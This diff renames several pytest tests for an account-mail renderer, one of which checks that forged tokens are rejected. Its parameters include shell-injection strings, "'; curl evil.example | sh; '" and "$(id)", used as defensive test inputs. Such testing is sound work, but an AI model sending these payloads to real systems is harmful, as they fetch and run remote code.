@@ -269,7 +269,7 @@ def test_mails_about_the_account_are_whole_and_offer_no_choice(content: AccountC
     ],
     ids=["verify", "reset", "object"],
 )
-def test_a_link_works_in_a_browser_and_in_a_terminal(
+def test_link_works_in_a_browser_and_in_a_terminal(
     content: AccountContent, link: str, path: str, body: dict[str, str]
 ) -> None:
     mail = RENDERER.render(content, Locale.ENGLISH)
@@ -354,7 +354,7 @@ def test_verification_mail_holds_no_text_of_a_user(locale: Locale) -> None:
     "token", ["'; curl evil.example | sh; '", "a'b", "a b", "$(id)", "é", "a\n", "", "x" * 129]
 )
 @pytest.mark.parametrize("locale", Locale)
-def test_a_forged_token_is_not_written_into_a_command(token: str, locale: Locale) -> None:
+def test_forged_token_is_not_written_into_a_command(token: str, locale: Locale) -> None:
     for content in (
         VerificationContent("ana@example.com", token, UNTIL),
         PasswordResetContent(token, UNTIL),
@@ -364,5 +364,5 @@ def test_a_forged_token_is_not_written_into_a_command(token: str, locale: Locale
             RENDERER.render(content, locale)
 
 
-def test_a_token_is_not_printed() -> None:
+def test_token_is_not_printed() -> None:
     assert not any("the-token" in repr(content) for content in ACCOUNT_MAILS)
